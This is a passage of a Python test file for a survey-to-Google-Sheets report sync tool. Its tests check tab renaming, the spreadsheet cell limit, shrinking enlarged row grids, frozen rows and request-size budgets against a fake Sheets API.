    assert kit.sheet("Notes (8)") == [["mine"]] and "Boris (8)" in kit.fake.titles(SHEET_ID)


def test_an_agents_tab_made_by_an_earlier_version_is_renamed_too(kit):
    """Before, a new tab's id came from its title: such a tab is still found by its title."""
    from csat_hook.sync.outputs.sheets_format import object_id

    token = kit.survey("T-1", "7", "Anna Smirnova")
    kit.responses([EN_HEADER, [T0, 5, "a", "", "", token]])
    legacy = object_id("csat-hook tab", "anna petrova (7)", 0)
    kit.fake.add_tab(SHEET_ID, "Anna Petrova (7)", [["old"]], sheet_id=legacy)
    kit.fake.add_tab(
        SHEET_ID,
        "Boris (8)",
        [["someone else"]],
        sheet_id=object_id("csat-hook tab", "boris (8)", 0),
    )
    assert kit.run().status == "ok"

    assert kit.fake.tab(SHEET_ID, "Anna Smirnova (7)").sheet_id == legacy
    assert "Anna Petrova (7)" not in kit.fake.titles(SHEET_ID)
    assert kit.sheet("Boris (8)") == [["someone else"]]


def test_a_report_over_the_spreadsheets_cell_limit_fails_naming_what_to_change(kit):
    """A spreadsheet holds 10,000,000 cells across its tabs (the form's responses tab counts):
    the tabs were added anyway and Google refused the whole request with a 400."""
    kit.responses([EN_HEADER, [T0, 5, "a", "", "", kit.survey("T-1", "7", "Anna Petrova")]])
    kit.fake.tab(SHEET_ID, "Form Responses 1").rows = 399_960  # 26 columns: 10,398,960 cells
    kit.fake.tab(SHEET_ID, "Form Responses 1").cols = 25  # 9,999,000
    summary = kit.run()

    assert summary.status == "failed"
    assert "10,000,000 cells" in summary.error
    assert "9,999,000" in summary.error  # what the other tabs hold
    assert "output.gsheets.spreadsheet_id" in summary.error
    assert "output.gsheets.max_response_rows" in summary.error
    assert kit.fake.count("sheets_write") == 0


def grids(kit: Any) -> dict[str, int]:
    """Each tab's rows (its grid, blank rows and all), by title."""
    return {title: kit.fake.tab(SHEET_ID, title).rows for title in kit.fake.titles(SHEET_ID)}


def test_a_lists_grid_over_twice_what_it_is_given_is_cut_back_and_one_under_is_left(kit):
    """Every row of a tab's grid is written, blank or not, and grids were never shrunk: a list
    an earlier run grew (a limit since lowered, answers erased) sent its blank rows on every
    run. A list's grid over twice the rows it is given is cut back to them; one under, and
    a tab that lists no answers, are left as they are (no structure request each run)."""
    seed(kit, agents=3, per_agent=5)
    assert kit.run().status == "ok"
    given = grids(kit)  # new tabs: the rows each needs, plus headroom
    assert given["Agent 00 (100)"] == grown(1 + 5) and given["Responses"] == grown(1 + 15)
    columns = kit.fake.tab(SHEET_ID, "Agent 00 (100)").cols
    kit.fake.tab(SHEET_ID, "Agent 00 (100)").rows = 5_000
    kit.fake.tab(SHEET_ID, "Agent 00 (100)").cols = columns - 1  # cut back while it grows
    kit.fake.tab(SHEET_ID, "Agent 01 (101)").rows = 2 * given["Agent 01 (101)"]
    kit.fake.tab(SHEET_ID, "Responses").rows = 3_000
    kit.fake.tab(SHEET_ID, "Summary").rows = given["Summary"] + 500
    before = kit.sheet("Agent 00 (100)")
    later = kit.survey("T-later", "102", "Agent 02")  # a run writes only a new report
    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "later", "", "", later]])
    summary = kit.run()

    assert summary.status == "ok", summary.error
    after = grids(kit)
    assert after["Agent 00 (100)"] == given["Agent 00 (100)"]
    assert kit.fake.tab(SHEET_ID, "Agent 00 (100)").cols == columns
    assert after["Responses"] == grown(1 + 16)  # one answer more
    assert after["Agent 01 (101)"] == 2 * given["Agent 01 (101)"]  # at twice: left
    assert after["Summary"] == given["Summary"] + 500  # lists no answers: left
    assert kit.sheet("Agent 00 (100)") == before
    assert len(listed(kit.sheet("Responses"))) == 16
    # Cut back once: the next run that writes leaves the grids as they are.
    again = kit.survey("T-again", "102", "Agent 02")
    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 5, "again", "", "", again]])
    assert kit.run().status == "ok"
    assert grids(kit) == after
    assert len(listed(kit.sheet("Responses"))) == 17


def lists_grown_under_twice(kit: Any, config: Any) -> tuple[Any, dict[str, int], list[str]]:
    """A first run under ``config`` (ended ok), then the lists' grids left just under twice
    what it gave them, as an earlier run's, and one answer more for Agent 49 (a run writes
    only a new report): the first run's summary, each tab's rows it gave, the lists'
    titles."""
    first = kit.run(config)
    assert first.status == "ok", first.error
    given = grids(kit)
    lists = [t for t in given if t.startswith("Agent") or t == "Responses"]
    for title in lists:
        kit.fake.tab(SHEET_ID, title).rows = 2 * given[title] - 1
    later = kit.survey("T-later", "149", "Agent 49")
    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "later", "", "", later]])
    return first, given, lists


@pytest.mark.parametrize("refused", [False, True])
def test_blank_rows_of_grids_an_earlier_run_grew_do_not_make_the_report_list_fewer(kit, refused):
    """Lists' grids an earlier run left larger, under twice what they are given (kept as
    they are while the values fit), made values that fit two requests without their blank
    rows not fit with them: fewer answers were listed, and a lower limit did not help. The
    grids are cut back to what they are given first, and every answer is listed; also when
    the structure write is refused once (planned again, the grids still cut back)."""
    seed(kit, agents=50, per_agent=30)
    config = kit.config(
        output={"gsheets": {"max_request_bytes": 100_000, "max_response_rows": 200}}
    )
    first, given, lists = lists_grown_under_twice(kit, config)
    assert "rows_listed" not in first.outputs[-1]
    if refused:
        kit.fake.fail(1, 503, "sheets_write")  # not applied: its outcome unknown to us
    summary = kit.run(config)

    assert summary.status == "ok", summary.error
    assert "rows_listed" not in summary.outputs[-1]
    assert not [w for w in summary.warnings if "Google Sheets report lists" in w]
    assert {t: rows for t, rows in grids(kit).items() if t in lists} == {
        **{t: given[t] for t in lists},
        "Agent 49 (149)": grown(1 + 31),  # one answer more
    }
    assert len(listed(kit.sheet("Agent 07 (107)"))) == 30
    assert len(listed(kit.sheet("Agent 49 (149)"))) == 31
    assert len(listed(kit.sheet("Responses"))) == 200


def test_blank_rows_of_grids_an_earlier_run_grew_go_before_any_comment_is_cut(kit):
    """Values that fit two requests with their long comments whole, but not with the blank
    rows of grids an earlier run grew: the grids are cut back, and no comment is cut."""
    seed(
        kit,
        agents=50,
        per_agent=30,
        comment=lambda a, i: "w" * 3_000 if i == 0 and a < 30 else None,
    )
    config = kit.config(
        output={"gsheets": {"max_request_bytes": 150_000, "max_response_rows": 200}}
    )
    first, given, _ = lists_grown_under_twice(kit, config)
    assert "texts_cut" not in first.outputs[-1]
    summary = kit.run(config)

    assert summary.status == "ok", summary.error
    assert "texts_cut" not in summary.outputs[-1], summary.outputs[-1]
    assert not [w for w in summary.warnings if "cut to" in w]
    assert grids(kit)["Agent 00 (100)"] == given["Agent 00 (100)"]
    assert "w" * 3_000 in [row[3] for row in kit.sheet("Agent 00 (100)")]


def test_a_shorter_listing_that_moves_by_a_row_leaves_the_lists_grids_as_they_are(kit):
    """A report listing fewer answers lists a few more or fewer as answers come in: each
    list's grid stays within twice what it is given, with no cut sent for each move."""
    seed(kit, agents=50, per_agent=40)
    config = kit.config(output={"gsheets": {"max_request_bytes": 100_000}})
    rows_listed(kit.run(config))
    given = grids(kit)
    for n in range(3):
        token = kit.survey(f"T-more-{n}", "149", "Agent 49")
        kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "more", "", "", token]])
        rows_listed(kit.run(config))
        assert all(rows >= given[title] for title, rows in grids(kit).items()), n


def test_a_lists_grid_is_never_cut_into_its_frozen_rows(kit):
    """Google refuses a grid with no row but frozen ones ("You can't freeze all visible
    rows"), and a person may freeze more rows than the looks do: a cut keeps them and one
    more, and the run is written."""
    seed(kit, agents=3, per_agent=5)
    assert kit.run().status == "ok"
    kit.fake.tab(SHEET_ID, "Responses").rows = 3_000
    kit.fake.tab(SHEET_ID, "Responses").frozen_rows = 40
    later = kit.survey("T-later", "102", "Agent 02")
    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "later", "", "", later]])
    summary = kit.run()

    assert summary.status == "ok", summary.error
    assert grids(kit)["Responses"] == 41
    assert len(listed(kit.sheet("Responses"))) == 16


@pytest.mark.parametrize("earlier", ["under twice", "over twice", "narrower"])
def test_a_grid_an_earlier_run_grew_is_cut_back_when_the_cells_would_not_fit(kit, earlier):
    """A spreadsheet at Google's 10,000,000 cells gets a new agent's tab: the blank rows of
    grids an earlier run grew make room for it instead of a failed run. Google checks its
    limit after each request of a batch (the fake does too), so the grids are cut before
    the tab is added: a Responses tab under twice what it needs (cut because the cells do
    not fit), over twice (cut in any plan), and agents' tabs a column narrower than they
    need (widened, and cut, in two requests)."""
    seed(kit, agents=2, per_agent=3)
    assert kit.run().status == "ok"
    given = grids(kit)
    agents = ["Agent 00 (100)", "Agent 01 (101)"]
    columns = kit.fake.tab(SHEET_ID, agents[0]).cols
    if earlier == "narrower":
        for title in agents:
            kit.fake.tab(SHEET_ID, title).rows = 2 * given[title] - 1
            kit.fake.tab(SHEET_ID, title).cols = columns - 1
    else:
        times = 2 if earlier == "under twice" else 3
        kit.fake.tab(SHEET_ID, "Responses").rows = times * given["Responses"] - 1
    ours = sum(
        kit.fake.tab(SHEET_ID, t).rows * kit.fake.tab(SHEET_ID, t).cols
        for t in kit.fake.titles(SHEET_ID)
        if t != "Form Responses 1"
    )
    form = kit.fake.tab(SHEET_ID, "Form Responses 1")
    form.cols = 10
    form.rows = (10_000_000 - ours) // 10  # within ten cells of the limit
    token = kit.survey("T-new", "555", "Aaron")  # its tab planned before the others
    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 5, "new", "", "", token]])
    summary = kit.run()

    assert summary.status == "ok", summary.error
    after = grids(kit)
    if earlier == "narrower":
        assert [after[t] for t in agents] == [given[t] for t in agents]
        assert [kit.fake.tab(SHEET_ID, t).cols for t in agents] == [columns] * 2
    else:
        assert after["Responses"] == grown(1 + 7)
    assert len(listed(kit.sheet("Aaron (555)"))) == 1
    tabs = [kit.fake.tab(SHEET_ID, title) for title in kit.fake.titles(SHEET_ID)]
    assert sum(tab.rows * tab.cols for tab in tabs) <= 10_000_000


def test_a_tab_other_than_agents_or_responses_too_large_says_to_raise_the_budget(kit):
    # An Unverified tab of made-up references with comments, under a lowered budget: fewer
    # agent or Responses rows cannot help it, a larger request can (and cutting the texts
    # cannot: none is long enough to be cut, sheets_fit.MIN_CUT).
    token = kit.survey("T-1", "7", "Anna Petrova")
    rows = [[T0, 5, "ok", "", "", token]]
    for i in range(1_000):
        rows.append([T0, 1, "x" * 150, "Anna", "T-1", made_up(i)])
    kit.responses([EN_HEADER, *rows])
    summary = kit.run(kit.config(output={"gsheets": {"max_request_bytes": 100_000}}))
    assert summary.status == "failed"
    assert "'Unverified' needs" in summary.error
    assert "raise max_request_bytes" in summary.error
    assert kit.fake.count("sheets_write") == 0


def test_a_value_write_stays_within_max_request_bytes_with_its_envelope(kit):
    """The tabs were packed so that their ValueRanges fit ``max_request_bytes``, but the
    body around them (``{"valueInputOption":"RAW","data":[``, the commas, ``]}``) was not
    counted: a report whose ranges came within 40 bytes of the limit was sent over it, and
    at Google's own limit (10 MiB) refused whole, run after run."""
    seed(kit, agents=20, per_agent=40)
    for sheet in ("report-a", "report-b"):
        kit.fake.add_spreadsheet(sheet)
        kit.fake.add_tab(sheet, "Sheet1", [], sheet_id=0)
    summary = kit.run(kit.config(output={"gsheets": {"spreadsheet_id": "report-a"}}))
    assert summary.status == "ok", summary.error
    (whole,) = [
        r["bytes"]
        for r in kit.fake.api_requests("sheets_write")
        if r["path"] == "/v4/spreadsheets/report-a/values:batchUpdate"
    ]
    kit.fake.reset_requests()
    limit = max(whole - 1, 100_000)
    assert limit == whole - 1  # the report is over the smallest limit allowed
    summary = kit.run(
        kit.config(output={"gsheets": {"spreadsheet_id": "report-b", "max_request_bytes": limit}})
    )
    assert summary.status == "ok", summary.error
    sizes = [
        r["bytes"]
        for r in kit.fake.api_requests("sheets_write")
        if r["path"] == "/v4/spreadsheets/report-b/values:batchUpdate"
    ]
    assert len(sizes) == 2 and max(sizes) <= limit
